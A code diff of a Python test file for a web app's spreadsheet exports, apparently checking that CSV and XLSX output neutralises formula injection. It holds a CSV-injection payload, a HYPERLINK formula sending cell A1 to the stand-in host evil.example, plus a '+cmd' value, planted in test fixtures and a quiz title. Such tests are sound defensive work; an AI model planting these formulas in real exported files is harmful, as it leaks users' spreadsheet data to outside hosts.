@@ -16,7 +16,7 @@ from werkzeug.http import parse_options_header
 from app.exports import FORMULA_STARTS, attachment_headers, read_cell, safe_cell
 from app.extensions import db
 from app.models import Cadre, Unit
-from tests.helpers import CITY_ADMIN, run_import, seed_attempts, write_course
+from tests.helpers import CITY_ADMIN, THIRDS_QUIZ, run_import, seed_attempts, write_course
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 EVIL_UNIT = "+cmd"
@@ -95,27 +95,8 @@ def test_numbers_stay_numbers_in_xlsx(planted, auth, client):
     assert rows and all(isinstance(value, int) for row in rows for value in row[4:7])
 
 
-QUIZ = """---
-type: quiz
-pass_mark: 50
----
-# Đề
-
-## =HYPERLINK("http://evil.example/?"&A1,"x") {#de points=2}
-
-- [x] Đúng
-- [ ] Sai
-
-## Phân loại {#phan-loai}
-
-- [x] A
-- [ ] B
-
-## Hỏng {#hong}
-
-- [ ] Một
-- [x] Hai
-"""
+# The thirds quiz with a formula planted in a question's title.
+QUIZ = THIRDS_QUIZ.replace("## Dễ {#de", '## =HYPERLINK("http://evil.example/?"&A1,"x") {#de')
 
 
 def test_item_analysis_csv_is_neutralised_and_keeps_negative_numbers(
